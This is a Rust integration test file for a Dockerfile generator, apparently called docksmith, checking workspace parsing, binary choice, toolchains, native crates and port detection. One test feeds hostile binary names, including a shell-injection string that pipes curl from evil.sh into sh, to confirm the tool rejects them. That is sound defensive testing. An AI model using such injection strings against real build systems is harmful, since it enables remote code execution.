//! Rust: both ways of reading a workspace agree; binaries, toolchains, native crates
//! and hostile names behave as a Rust developer expects.

use std::path::Path;

use predicates::prelude::*;

use docksmith::lang::rust::{manifest, metadata};
use docksmith::scan::{ProjectView, ScanLimits};

use crate::support::{copy_example, docksmith, examples, name, project};

fn cargo() -> std::path::PathBuf {
    metadata::find_cargo(std::env::var_os("PATH").as_deref())
        .expect("cargo on PATH (the tests are run by it)")
}

/// The workspace as cargo metadata sees it, and as the Cargo.toml reader sees it.
fn both_readers(dir: &Path) -> (manifest::Workspace, manifest::Workspace) {
    let view = ProjectView::open(dir, ScanLimits::default()).unwrap();
    let from_cargo =
        metadata::read(view.root(), &cargo()).unwrap_or_else(|e| panic!("{}: {e}", dir.display()));
    let from_toml = manifest::read(&view).unwrap();
    (from_cargo, from_toml)
}

#[test]
fn cargo_metadata_and_the_toml_reader_agree_on_every_rust_example() {
    let rust: Vec<_> = examples()
        .into_iter()
        .filter(|d| d.join("Cargo.toml").is_file())
        .collect();
    assert!(rust.len() >= 7, "at least seven Rust examples");
    for dir in rust {
        let (from_cargo, from_toml) = both_readers(&dir);
        assert_eq!(from_cargo, from_toml, "{}", name(&dir));
    }
}

#[test]
fn cargo_metadata_and_the_toml_reader_agree_on_cargo_edge_cases() {
    let main = "fn main() {}\n";
    let cases: Vec<Vec<(&str, &str)>> = vec![
        // autobins = false keeps only [[bin]]; a [[bin]] without path is found in src/bin.
        vec![
            (
                "Cargo.toml",
                "[package]\nname = \"a\"\nversion = \"0.1.0\"\nedition = \"2021\"\nautobins = false\n\n[[bin]]\nname = \"tool\"\n",
            ),
            ("src/main.rs", main),
            ("src/bin/tool.rs", main),
            ("src/bin/other.rs", main),
        ],
        // src/bin/<name>/main.rs, required-features, default-run.
        vec![
            (
                "Cargo.toml",
                "[package]\nname = \"b\"\nversion = \"0.1.0\"\nedition = \"2021\"\ndefault-run = \"b\"\n\n[features]\ndefault = [\"cli\"]\ncli = []\nextra = []\n\n[[bin]]\nname = \"special\"\nrequired-features = [\"extra\"]\n",
            ),
            ("src/main.rs", main),
            ("src/bin/special.rs", main),
            ("src/bin/multi/main.rs", main),
            ("src/bin/multi/helper.rs", ""),
        ],
        // A virtual workspace with globs, exclude, default-members, inherited fields and
        // dependencies, a build script and a path dependency outside `members`.
        vec![
            (
                "Cargo.toml",
                "[workspace]\nmembers = [\"apps/*\"]\nexclude = [\"apps/old\"]\ndefault-members = [\"apps/web\"]\nresolver = \"2\"\n\n[workspace.package]\nedition = \"2021\"\nrust-version = \"1.80\"\n\n[workspace.dependencies]\nhelper = { path = \"libs/helper\", features = [\"fast\"] }\n",
            ),
            (
                "apps/web/Cargo.toml",
                "[package]\nname = \"web\"\nversion = \"0.1.0\"\nedition.workspace = true\nrust-version.workspace = true\n\n[dependencies]\nhelper = { workspace = true, features = [\"extra\"] }\n",
            ),
            ("apps/web/src/main.rs", main),
            ("apps/web/build.rs", main),
            (
                "apps/cli/Cargo.toml",
                "[package]\nname = \"cli\"\nversion = \"0.1.0\"\nedition = \"2018\"\n\n[[bin]]\nname = \"cli-tool\"\npath = \"src/main.rs\"\n",
            ),
            ("apps/cli/src/main.rs", main),
            (
                "apps/old/Cargo.toml",
                "[package]\nname = \"old\"\nversion = \"0.1.0\"\n",
            ),
            ("apps/old/src/main.rs", main),
            (
                "libs/helper/Cargo.toml",
                "[package]\nname = \"helper\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[features]\nfast = []\nextra = []\n",
            ),
            ("libs/helper/src/lib.rs", ""),
        ],
        // A root package that is also a workspace, with a renamed dependency.
        vec![
            (
                "Cargo.toml",
                "[package]\nname = \"root\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\nmembers = [\"member\"]\n\n[dependencies]\nm = { package = \"member\", path = \"member\" }\n",
            ),
            ("src/main.rs", main),
            (
                "member/Cargo.toml",
                "[package]\nname = \"member\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
            ),
            ("member/src/main.rs", main),
        ],
    ];
    for (i, files) in cases.iter().enumerate() {
        let dir = project(files);
        let (from_cargo, from_toml) = both_readers(dir.path());
        assert_eq!(from_cargo, from_toml, "case {i}");
    }
}

#[test]
fn without_cargo_the_output_is_the_same() {
    for dir in examples()
        .into_iter()
        .filter(|d| d.join("Cargo.toml").is_file())
    {
        let with = docksmith().arg("generate").arg(&dir).output().unwrap();
        let without = docksmith()
            .env("PATH", "/nonexistent")
            .arg("generate")
            .arg(&dir)
            .output()
            .unwrap();
        assert!(
            with.status.success() && without.status.success(),
            "{}",
            name(&dir)
        );
        assert_eq!(with.stdout, without.stdout, "{}", name(&dir));
    }
    docksmith()
        .env("PATH", "/nonexistent")
        .args(["detect", "examples/rust-workspace"])
        .current_dir(crate::support::repo())
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "read with     Cargo.toml                     the manifests, without a cargo process",
        ));
}

/// A `cargo` that records each run, then runs the real one.
fn recording_cargo(bin: &Path, log: &Path) {
    let script = format!(
        "#!/bin/sh\necho \"$*\" >> '{}'\nexec '{}' \"$@\"\n",
        log.display(),
        cargo().display()
    );
    let file = bin.join("cargo");
    std::fs::write(&file, script).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn manifests_that_say_everything_are_read_without_a_cargo_process() {
    // Issue 15: a `cargo metadata` child made `plan` 3-5x slower on Rust repositories
    // and doubled its peak memory.
    let tools = tempfile::tempdir().unwrap();
    let log = tools.path().join("runs.log");
    recording_cargo(tools.path(), &log);
    for dir in examples()
        .into_iter()
        .filter(|d| d.join("Cargo.toml").is_file())
    {
        let out = docksmith()
            .env("PATH", tools.path())
            .arg("detect")
            .arg(&dir)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", name(&dir));
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains("read with     Cargo.toml "),
            "{}: {text}",
            name(&dir)
        );
    }
    assert!(
        !log.exists(),
        "cargo ran: {:?}",
        std::fs::read_to_string(&log)
    );
}

#[test]
fn cargo_metadata_reads_what_the_manifest_reader_cannot() {
    // A member pattern the reader's glob syntax refuses but cargo accepts: cargo's
    // reading stands, with the reader's reason as evidence.
    let tools = tempfile::tempdir().unwrap();
    let log = tools.path().join("runs.log");
    recording_cargo(tools.path(), &log);
    let main = "fn main() {}\n";
    let dir = project(&[
        (
            "Cargo.toml",
            "[workspace]\nmembers = [\"app{\"]\nresolver = \"2\"\n",
        ),
        ("Cargo.lock", "version = 4\n"),
        (
            "app{/Cargo.toml",
            "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        ),
        ("app{/src/main.rs", main),
    ]);
    let out = docksmith()
        .env("PATH", tools.path())
        .arg("detect")
        .arg(dir.path())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("read with     cargo metadata"), "{text}");
    assert!(log.exists(), "cargo did not run");
}

#[test]
fn hostile_binary_names_are_refused_naming_the_manifest() {
    for name in ["$(touch pwned)", "a\\\"b", "x' && curl evil.sh | sh #"] {
        let manifest = format!(
            "[package]\nname = \"safe\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[[bin]]\nname = \"{name}\"\npath = \"src/main.rs\"\n"
        );
        let dir = project(&[
            ("Cargo.toml", &manifest),
            ("Cargo.lock", "version = 4\n"),
            ("src/main.rs", "fn main() {}\n"),
        ]);
        for path in [None, Some("/nonexistent")] {
            let mut cmd = docksmith();
            if let Some(path) = path {
                cmd.env("PATH", path);
            }
            let out = cmd.arg("generate").arg(dir.path()).output().unwrap();
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert_eq!(out.status.code(), Some(1), "{name:?}: {stderr}");
            assert!(out.stdout.is_empty(), "{name:?}");
            assert!(stderr.contains("Cargo.toml"), "{name:?}: {stderr}");
        }
    }
}

#[test]
fn several_binaries_need_a_choice_unless_default_run_says() {
    let dir = copy_example("rust-multi-bin");
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .success()
        .stdout(predicate::str::contains("--bin server"));
    let manifest = dir.path().join("Cargo.toml");
    let text = std::fs::read_to_string(&manifest)
        .unwrap()
        .replace("default-run = \"server\"\n", "");
    std::fs::write(&manifest, text).unwrap();
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .code(3)
        .stderr(predicate::str::contains(
            "several binaries could be packaged: migrate (package notes), server (package notes)",
        ))
        .stderr(predicate::str::contains(
            "hint: choose one with --bin migrate",
        ));
    docksmith()
        .args(["generate", "--bin", "migrate"])
        .arg(dir.path())
        .assert()
        .success()
        .stdout(predicate::str::contains("--bin migrate"))
        .stdout(predicate::str::contains("EXPOSE").not());
}

#[test]
fn a_missing_lockfile_builds_unlocked_on_a_writable_mount_with_a_warning() {
    let dir = copy_example("rust-bin-rename");
    std::fs::remove_file(dir.path().join("Cargo.lock")).unwrap();
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .success()
        .stderr(predicate::str::contains("warning: no Cargo.lock"))
        .stdout(predicate::str::contains("--mount=type=bind,target=.,rw \\"))
        .stdout(predicate::str::contains("--locked").not());
}

#[test]
fn a_broken_manifest_names_file_and_line() {
    let dir = project(&[("Cargo.toml", "[package]\nname = \"x\"\nversion = 0.1.0\n")]);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .code(1)
        .stderr(predicate::str::contains("error: Cargo.toml:3:"))
        .stderr(predicate::str::contains(
            "hint: fix the TOML syntax of Cargo.toml",
        ));
    let dir = project(&[
        (
            "Cargo.toml",
            "[package]\nname = \"x\"\nversion = \"0.1.0\"\n",
        ),
        ("rust-toolchain.toml", "[toolchain\n"),
    ]);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .code(1)
        .stderr(predicate::str::contains("error: rust-toolchain.toml:1:"));
}

/// A project whose lock lists `crates` (each depended on by the app).
fn with_native(crates: &[&str]) -> tempfile::TempDir {
    let mut lock = String::from(
        "version = 4\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\n",
    );
    for c in crates {
        lock.push_str(&format!(" \"{c}\",\n"));
    }
    lock.push_str("]\n");
    for c in crates {
        lock.push_str(&format!(
            "\n[[package]]\nname = \"{c}\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n"
        ));
    }
    project(&[
        (
            "Cargo.toml",
            "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        ),
        ("Cargo.lock", &lock),
        ("src/main.rs", "fn main() {}\n"),
    ])
}

#[test]
fn native_crates_choose_packages_and_flavors() {
    // libpq is a system library distroless cannot add and musl cannot link statically.
    let dir = with_native(&["pq-sys"]);
    docksmith()
        .arg("plan")
        .arg(dir.path())
        .assert()
        .success()
        .stdout(predicate::str::contains("flavor        slim"))
        .stdout(predicate::str::contains("runtime pkgs  libpq5"))
        .stdout(predicate::str::contains("build pkgs    libpq-dev"))
        .stdout(predicate::str::contains("- distroless: gcr.io/distroless/cc-debian12:nonroot has no package manager to add libpq5"));
    docksmith()
        .args(["generate", "--flavor", "scratch"])
        .arg(dir.path())
        .assert()
        .code(1)
        .stderr(predicate::str::contains(
            "pq-sys links libpq (PostgreSQL client) (Cargo.lock:",
        ))
        .stderr(predicate::str::contains(
            "a static musl build is not possible",
        ));
    // Vendored OpenSSL is built from source: nothing to install at run time, but perl
    // and make to build it.
    let dir = with_native(&["openssl-sys", "openssl-src"]);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "FROM gcr.io/distroless/cc-debian12:nonroot",
        ))
        .stdout(predicate::str::contains(
            "apt-get install -y --no-install-recommends perl\n",
        ));
    // protoc for prost-build: the full builder image, plus the compiler from apt.
    let dir = with_native(&["prost-build"]);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .success()
        .stdout(predicate::str::contains("FROM rust:1.95-bookworm AS build"))
        .stdout(predicate::str::contains(
            "--no-install-recommends protobuf-compiler",
        ));
}

#[test]
fn toolchains_follow_pins_msrv_and_editions() {
    let generate = |files: &[(&str, &str)]| -> String {
        let dir = project(files);
        let out = docksmith()
            .arg("generate")
            .arg(dir.path())
            .output()
            .unwrap();
        crate::common::assert_success(&out);
        String::from_utf8(out.stdout).unwrap()
    };
    let main = ("src/main.rs", "fn main() {}\n");
    let lock = ("Cargo.lock", "version = 4\n");
    let manifest = |extra: &str| format!("[package]\nname = \"t\"\nversion = \"0.1.0\"\n{extra}");
    let newer = manifest("edition = \"2021\"\nrust-version = \"1.97\"\n");
    assert!(
        generate(&[("Cargo.toml", &newer), main, lock]).contains("FROM rust:1.97-slim-bookworm")
    );
    let older = manifest("edition = \"2018\"\nrust-version = \"1.60\"\n");
    assert!(
        generate(&[("Cargo.toml", &older), main, lock]).contains("FROM rust:1.95-slim-bookworm")
    );
    let legacy = manifest("edition = \"2021\"\n");
    let pinned = generate(&[
        ("Cargo.toml", &legacy),
        main,
        lock,
        ("rust-toolchain", "1.88.1\n"),
    ]);
    assert!(
        pinned.contains("FROM rust:1.88.1-slim-bookworm"),
        "{pinned}"
    );
    let dir = project(&[
        ("Cargo.toml", &legacy),
        main,
        lock,
        (
            "rust-toolchain.toml",
            "[toolchain]\nchannel = \"nightly-2026-01-01\"\n",
        ),
    ]);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .success()
        .stdout(predicate::str::contains("FROM rust:1.95-slim-bookworm"))
        .stderr(predicate::str::contains(
            "pinned to nightly-2026-01-01, which no rust image provides",
        ));
}

#[test]
fn a_loopback_bind_is_warned_about_in_plan_and_dockerfile() {
    let dir = project(&[
        (
            "Cargo.toml",
            "[package]\nname = \"local\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        ),
        ("Cargo.lock", "version = 4\n"),
        (
            "src/main.rs",
            "fn main() {\n    let _l = std::net::TcpListener::bind(\"127.0.0.1:3000\").unwrap();\n}\n",
        ),
    ]);
    docksmith()
        .arg("plan")
        .arg(dir.path())
        .assert()
        .success()
        .stderr(predicate::str::contains(
            "warning: local listens on the loopback address only",
        ))
        .stderr(predicate::str::contains("(src/main.rs:2)"));
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "# WARNING: local listens on the loopback address only (src/main.rs:2)",
        ));
}

#[test]
fn build_inputs_beyond_src_stay_in_the_context() {
    let dir = project(&[
        (
            "Cargo.toml",
            "[package]\nname = \"site\"\nversion = \"0.1.0\"\nedition = \"2021\"\ninclude = [\"docs/**\"]\n",
        ),
        ("Cargo.lock", "version = 4\n"),
        ("build.rs", "fn main() {}\n"),
        (
            "src/main.rs",
            "const ABOUT: &str = include_str!(\"../ABOUT.md\");\nfn main() { sqlx::migrate!(); println!(\"{ABOUT}\"); }\n",
        ),
        ("ABOUT.md", "about\n"),
        ("migrations/0001_init.sql", "create table t (id int);\n"),
        (".sqlx/query-1.json", "{}\n"),
        ("docs/guide.md", "guide\n"),
        ("notes.md", "not needed\n"),
    ]);
    docksmith().arg("init").arg(dir.path()).assert().success();
    let ignore = std::fs::read_to_string(dir.path().join(".dockerignore")).unwrap();
    let rules = docksmith::dockerignore::IgnoreRules::parse(&ignore);
    for needed in [
        "build.rs",
        "src/main.rs",
        "ABOUT.md",
        "migrations/0001_init.sql",
        ".sqlx/query-1.json",
        "docs/guide.md",
        "Cargo.lock",
    ] {
        assert!(!rules.excludes(needed), "{needed}:\n{ignore}");
    }
    assert!(rules.excludes("target/release/site"));
}

#[test]
fn a_binary_behind_a_non_default_feature_is_an_option_not_the_program() {
    // monolith: the CLI needs the default feature `cli`, the GUI the optional `gui`.
    let (dockerfile, _) = crate::support::generate_ok(
        &[
            (
                "Cargo.toml",
                "[package]\nname = \"mono\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[features]\ndefault = [\"cli\"]\ncli = []\ngui = []\n\n[[bin]]\nname = \"mono\"\npath = \"src/main.rs\"\nrequired-features = [\"cli\"]\n\n[[bin]]\nname = \"mono-gui\"\npath = \"src/gui.rs\"\nrequired-features = [\"gui\"]\n",
            ),
            ("src/main.rs", "fn main() {}\n"),
            ("src/gui.rs", "fn main() {}\n"),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("/usr/local/bin/mono\"]"),
        "{dockerfile}"
    );
    // Both behind optional features: still a choice for the user.
    let dir = project(&[
        (
            "Cargo.toml",
            "[package]\nname = \"two\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[features]\na = []\nb = []\n\n[[bin]]\nname = \"one\"\npath = \"src/main.rs\"\nrequired-features = [\"a\"]\n\n[[bin]]\nname = \"other\"\npath = \"src/other.rs\"\nrequired-features = [\"b\"]\n",
        ),
        ("src/main.rs", "fn main() {}\n"),
        ("src/other.rs", "fn main() {}\n"),
    ]);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .code(3)
        .stderr(predicate::str::contains(
            "several binaries could be packaged",
        ));
}

#[test]
fn rocket_listens_on_every_interface_on_its_default_port() {
    let (dockerfile, _) = crate::support::generate_ok(
        &[
            (
                "Cargo.toml",
                "[package]\nname = \"vault\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nrocket = \"0.5\"\n",
            ),
            (
                "src/main.rs",
                "#[rocket::launch]\nfn rocket() -> _ { rocket::build() }\n",
            ),
        ],
        &[],
    );
    for needle in [
        "EXPOSE 8000",
        "ENV ROCKET_ADDRESS=\"0.0.0.0\"",
        "ENV ROCKET_PORT=\"8000\"",
    ] {
        assert!(dockerfile.contains(needle), "{needle}:\n{dockerfile}");
    }
    // The port moved by flag moves Rocket's too.
    let (dockerfile, _) = crate::support::generate_ok(
        &[
            (
                "Cargo.toml",
                "[package]\nname = \"vault\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nrocket = \"0.5\"\n",
            ),
            ("src/main.rs", "fn main() {}\n"),
        ],
        &["--port", "9000"],
    );
    assert!(
        dockerfile.contains("ENV ROCKET_PORT=\"9000\""),
        "{dockerfile}"
    );
}

#[test]
fn a_default_port_constant_in_the_library_is_the_binary_port() {
    // mini-redis: the server binary takes `DEFAULT_PORT` from its crate's lib.rs.
    let (dockerfile, _) = crate::support::generate_ok(
        &[
            (
                "Cargo.toml",
                "[package]\nname = \"kv\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[[bin]]\nname = \"kv-server\"\npath = \"src/bin/server.rs\"\n",
            ),
            ("src/lib.rs", "pub const DEFAULT_PORT: u16 = 6379;\n"),
            (
                "src/bin/server.rs",
                "fn main() { let port = cli.port.unwrap_or(kv::DEFAULT_PORT); bind(&format!(\"0.0.0.0:{port}\")); }\n",
            ),
        ],
        &[],
    );
    assert!(dockerfile.contains("EXPOSE 6379"), "{dockerfile}");
}

#[test]
fn sqlx_builds_offline_with_its_query_cache_and_says_when_it_has_none() {
    let manifest = "[package]\nname = \"api\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nsqlx = { version = \"0.8\", features = [\"macros\"] }\n";
    let lock = "version = 4\n\n[[package]]\nname = \"api\"\nversion = \"0.1.0\"\ndependencies = [\"sqlx\"]\n\n[[package]]\nname = \"sqlx\"\nversion = \"0.8.6\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\ndependencies = [\"sqlx-macros\"]\n\n[[package]]\nname = \"sqlx-macros\"\nversion = \"0.8.6\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n";
    let main = ("src/main.rs", "fn main() {}\n");
    let (dockerfile, _) = crate::support::generate_ok(
        &[
            ("Cargo.toml", manifest),
            ("Cargo.lock", lock),
            main,
            (".sqlx/query-1.json", "{}\n"),
        ],
        &[],
    );
    assert!(dockerfile.contains("SQLX_OFFLINE=true"), "{dockerfile}");
    let (dockerfile, stderr) =
        crate::support::generate_ok(&[("Cargo.toml", manifest), ("Cargo.lock", lock), main], &[]);
    assert!(!dockerfile.contains("SQLX_OFFLINE"), "{dockerfile}");
    assert!(!dockerfile.contains("ARG DATABASE_URL"), "{dockerfile}");
    assert!(
        dockerfile.contains("# WARNING: sqlx checks its queries"),
        "{dockerfile}"
    );
    assert!(stderr.contains("cargo sqlx prepare"), "{stderr}");
}

#[test]
fn a_build_script_that_writes_into_the_sources_gets_a_writable_mount() {
    let manifest = "[package]\nname = \"z\"\nversion = \"0.1.0\"\nedition = \"2021\"\n";
    let lock = "version = 4\n\n[[package]]\nname = \"z\"\nversion = \"0.1.0\"\n";
    let main = ("src/main.rs", "fn main() {}\n");
    // zoxide writes shell completions to contrib/ (its constant is named OUT_DIR, but
    // it never reads cargo's variable).
    let writes = "const OUT_DIR: &str = \"contrib/completions\";\nfn main() {\n    std::fs::create_dir_all(OUT_DIR).unwrap();\n}\n";
    let (dockerfile, _) = crate::support::generate_ok(
        &[
            ("Cargo.toml", manifest),
            ("Cargo.lock", lock),
            main,
            ("build.rs", writes),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("--mount=type=bind,target=.,rw"),
        "{dockerfile}"
    );
    // One that writes under OUT_DIR leaves the sources alone: read-only.
    let out_dir = "fn main() {\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{out}/v.rs\"), \"\").unwrap();\n}\n";
    let (dockerfile, _) = crate::support::generate_ok(
        &[
            ("Cargo.toml", manifest),
            ("Cargo.lock", lock),
            main,
            ("build.rs", out_dir),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("--mount=type=bind,target=. \\"),
        "{dockerfile}"
    );
}

#[test]
fn a_default_run_naming_no_binary_is_refused_naming_the_field() {
    let err = crate::support::generate_err(
        &[
            (
                "Cargo.toml",
                "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\ndefault-run = \"nope\"\n",
            ),
            ("src/main.rs", "fn main() {}\n"),
        ],
        &[],
        1,
    );
    assert!(
        err.contains(
            "Cargo.toml: [package] default-run `nope` names no binary of package `x` (it has: x)"
        ),
        "{err}"
    );
    assert!(err.contains("hint: set default-run in Cargo.toml"), "{err}");
}
